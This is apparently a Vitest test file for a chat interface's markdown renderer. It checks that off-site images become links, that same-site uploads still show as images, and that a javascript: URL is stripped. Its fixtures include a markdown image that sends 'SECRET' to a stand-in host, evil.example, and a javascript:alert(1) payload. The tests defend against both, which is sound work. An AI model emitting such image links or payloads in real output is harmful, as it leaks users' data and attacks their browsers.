import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { MarkdownContent } from './MarkdownContent';

// The copy button's toasts need the browser's document; nothing is copied here.
vi.mock('../../api/notify', () => ({ toast: {} }));

const SITE = 'https://chat.example.org';

const render = (text: string, streaming = false): string =>
  renderToStaticMarkup(createElement(MarkdownContent, { text, streaming }));

/** The `src` of every <img> in the HTML. */
const imageSources = (html: string): string[] =>
  [...html.matchAll(/<img\b[^>]*\bsrc="([^"]*)"/g)].map((m) => m[1] ?? '');

describe('images in an answer', () => {
  beforeEach(() => vi.stubGlobal('location', { origin: SITE }));
  afterEach(() => vi.unstubAllGlobals());

  it('never loads an image from another site: it becomes a link to it, with its alt text', () => {
    for (const streaming of [false, true]) {
      const html = render(
        'Look: ![the chart](https://evil.example/p.png?d=SECRET) and ![](//evil.example/q.png)',
        streaming,
      );
      expect(imageSources(html)).toEqual([]);
      const links = [...html.matchAll(/<a\b[^>]*>/g)].map((m) => m[0]);
      expect(links).toHaveLength(2);
      for (const link of links) {
        expect(link).toContain('target="_blank"');
        expect(link).toContain('rel="noopener noreferrer nofollow"');
      }
      expect(links[0]).toContain('href="https://evil.example/p.png?d=SECRET"');
      expect(html).toContain('the chart</a>');
      // Without alt text the address itself is shown.
      expect(html).toContain('//evil.example/q.png</a>');
    }
  });

  it('keeps showing images of this site (uploads), relative or absolute', () => {
    const html = render(`![upload](/api/chat/images/7) ![logo](${SITE}/api/public/site-images/logo.png)`);
    expect(imageSources(html)).toEqual(['/api/chat/images/7', `${SITE}/api/public/site-images/logo.png`]);
    expect(html).not.toContain('<a ');
  });

  it('leaves an image whose address the URL filter removed as its alt text', () => {
    const html = render('![payload](javascript:alert(1))');
    expect(imageSources(html)).toEqual([]);
    expect(html).not.toContain('javascript:');
    expect(html).toContain('payload');
  });
});
